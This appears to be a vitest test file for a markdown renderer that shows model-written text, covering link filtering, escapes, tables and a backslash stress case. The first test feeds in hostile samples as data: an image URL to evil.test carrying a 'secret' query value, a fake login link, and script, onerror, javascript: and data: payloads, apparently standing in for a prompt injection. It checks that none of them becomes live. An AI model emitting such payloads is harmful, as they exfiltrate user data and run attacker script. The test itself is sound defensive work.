import { expect, test } from 'vitest';
import { element } from './elements.ts';
import { markdown } from './markdown.ts';

const shown = (text: string, allowed = 'https://docs.example.test') =>
  element(
    'div',
    {},
    ...markdown(text, {
      isAllowed: ({ origin }) => origin === allowed,
      reference: (n) => (n === 1 ? element('sup', {}, '1') : undefined),
    }),
  );

test('what a document makes a model write becomes neither a link, nor a picture, nor HTML', () => {
  const page = shown(
    [
      '![pixel](https://evil.test/p.png?q=secret)',
      '[click here](https://evil.test/login) <img src=x onerror=alert(1)> <script>alert(2)</script>',
      '[run](javascript:alert(3)) [data](data:text/html,hi) https://evil.test/plain',
    ].join('\n\n'),
  );
  expect(page.querySelectorAll('a, img, script, iframe')).toHaveLength(0);
  expect(page.textContent).toContain('click here (https://evil.test/login)');
  expect(page.textContent).toContain('<img src=x onerror=alert(1)>');
});

test('an address of the site itself is a link that shows where it leads', () => {
  const link = shown('See [the guide](https://docs.example.test/guide).').querySelector('a');
  expect(link?.getAttribute('rel')).toContain('noopener');
  expect(link?.textContent).toBe('the guide (docs.example.test)');
});

test('headings, lists, tables, code and references are shown, and an unknown reference is left out', () => {
  const page = shown(
    '# Title\n\n- **one** [1]\n- two [7]\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```\nx < y\n```\n\nText with `code`.',
  );
  expect(page.querySelector('h2')?.textContent).toBe('Title');
  expect([...page.querySelectorAll('li')].map(({ textContent }) => textContent)).toEqual(['one 1', 'two ']);
  expect(page.querySelectorAll('td')).toHaveLength(2);
  expect(page.querySelector('pre')?.textContent).toBe('x < y');
  expect(page.querySelectorAll('sup')).toHaveLength(1);
});

test('a character behind a backslash is shown as it is', () => {
  const page = shown(
    [
      String.raw`- Sum of \_customer\_id\_: **5 \* 3**, *a\*b*, \[1\], R&amp;amp;D, C:\\data`,
      String.raw`[the \[old\] guide](https://docs.example.test/guide) \[not\](https://docs.example.test/x)`,
      '',
      String.raw`| a \| b | c |`,
      '|---|---|',
      '| 1 | 2 |',
      '',
      'The code `a\\_b` keeps it.',
    ].join('\n'),
  );
  expect(page.querySelector('li')?.textContent).toBe(
    String.raw`Sum of _customer_id_: 5 * 3, a*b, [1], R&amp;D, C:\data`,
  );
  expect(page.querySelector('strong')?.textContent).toBe('5 * 3');
  expect(page.querySelector('em')?.textContent).toBe('a*b');
  expect(page.querySelectorAll('sup')).toHaveLength(0);
  expect(page.textContent).toContain('the [old] guide (docs.example.test)');
  expect([...page.querySelectorAll('th')].map(({ textContent }) => textContent)).toEqual(['a | b', 'c']);
  expect(page.querySelector('code')?.textContent).toBe(String.raw`a\_b`);
});

test('a long row of backslashes between marks that are never closed is read at once', () => {
  const text = `**${'\\'.repeat(20_001)}`;
  expect(shown(text).textContent).toBe(`**${'\\'.repeat(10_001)}`);
});
